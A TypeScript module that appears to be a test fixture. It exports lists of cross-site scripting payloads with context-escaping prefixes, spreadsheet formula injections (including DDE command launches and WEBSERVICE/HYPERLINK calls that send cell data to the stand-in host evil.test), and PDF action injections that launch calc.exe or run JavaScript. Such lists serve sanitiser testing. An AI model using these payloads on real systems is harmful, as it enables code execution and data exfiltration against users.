/** What runs a script wherever a text is taken for markup, an attribute, a script, a template or an address. */
const scripts = [
  '<script>pwn()</script>',
  '<ScRiPt src=data:,pwn()></ScRiPt>',
  '<img src=x onerror=pwn()>',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<iframe src="javascript:parent.pwn()">',
  '<a href="javascript:pwn()" autofocus onfocus=pwn()>x</a>',
  '<details open ontoggle=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<math><mtext><img src=x onerror=pwn()></mtext></math>',
  '<style>@import "javascript:pwn()"</style>',
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<form action="javascript:pwn()"><button autofocus>x</button></form>',
  '{{constructor.constructor("pwn()")()}}',
  ['$', '{pwn()}'].join(''),
  '&lt;script&gt;pwn()&lt;/script&gt;',
] as const;

/** What leaves the place that a text stands in. */
const waysOut = [
  '',
  '">',
  "' autofocus onfocus=pwn() x='",
  '</title></textarea></style></script>',
  '--></p>',
] as const;

export const payloads: readonly string[] = scripts.flatMap((script) =>
  waysOut.map((out) => `${out}${script}`),
);

/** What a spreadsheet would calculate, call or fetch. */
export const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test/?"&A1,"Error: click")',
  '=WEBSERVICE("https://evil.test/?"&A1)',
  '@SUM(1+1)*cmd|calc!A0',
  '+1+cmd|calc!A0',
  '-1+cmd|calc!A0',
  '  =1+1',
  '\t=1+1',
  '\uff1d1+1',
  '"=1+1',
  '",=1+1,"',
  '\n=1+1',
];

/** What leaves a string in a PDF for an action of its own. */
export const pdfActions: readonly string[] = [
  ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
  '> /AA << /O << /S /Launch /F (calc.exe) >> >> <',
  'endstream endobj 1 0 obj << /S /URI /URI (https://evil.test) >> endobj',
  '\\) /JS (app.alert(1)) \\',
];
